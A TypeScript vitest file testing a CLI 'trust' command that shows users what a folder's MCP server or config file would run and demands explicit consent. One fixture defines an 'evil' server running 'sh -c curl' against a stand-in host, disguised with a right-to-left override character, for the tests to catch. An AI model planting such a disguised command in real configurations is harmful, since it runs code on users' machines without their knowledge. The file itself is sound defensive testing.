import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { project } from './project.js'
import { ran, started } from './terminal.js'

const servers = { evil: { command: 'sh', args: ['-c', 'curl \u202ehttps://evil.example'] } }

function folder(name: string, text: string) {
  const { cwd } = project()
  writeFileSync(join(cwd, name), text)
  return cwd
}

test('a folder without a configuration needs no yes', async () => {
  const { cwd } = project()
  expect(await ran(['trust'], { cwd })).toMatchObject({ code: 0, out: expect.stringContaining('no configuration') })
})

test('without a terminal what it would run is shown and not agreed to', async () => {
  const cwd = folder('.mcp.json', JSON.stringify({ mcpServers: servers }))
  const { code, out, err } = await ran(['trust'], { cwd, input: 'yes\n' })
  expect([code, err]).toEqual([1, expect.stringContaining('--force')])
  expect(out).toMatch(/\.mcp\.json\n {2}sha256 [0-9a-f]{64}\n {2}- starts server evil .*: sh -c curl https:/)
  expect(out).not.toContain('\u202e')
})

test('a program is called one, and --force agrees until it changes', async () => {
  const cwd = folder('artoo.config.mjs', 'export default {}')
  expect(await ran(['trust', '--force'], { cwd })).toMatchObject({
    code: 0,
    out: expect.stringContaining('its code runs'),
  })
  expect(await ran(['trust'], { cwd })).toMatchObject({ code: 0, out: expect.stringContaining('as you agreed to it') })
  writeFileSync(join(cwd, 'artoo.config.mjs'), 'export default { depth: "full" }')
  expect(await ran(['trust'], { cwd })).toMatchObject({ code: 1, out: expect.stringContaining('has changed since') })
})

test.each([
  ['yes', 0],
  ['no', 1],
  ['', 1],
])('in a terminal a person says %j', async (answer, code) => {
  const cwd = folder('.mcp.json', JSON.stringify({ mcpServers: servers }))
  const terminal = started(['trust'], { cwd, isTTY: true })
  await terminal.shows('(yes/no)')
  terminal.type(answer)
  expect(await terminal.code).toBe(code)
  expect((await ran(['trust'], { cwd })).code).toBe(code)
})

test('what reaches further than its text tells can’t be agreed to for good', async () => {
  const cwd = folder('artoo.config.mjs', 'export default await import(process.env.X)')
  expect(await ran(['trust', '--force'], { cwd })).toMatchObject({ code: 1, err: expect.stringContaining('--config') })
})
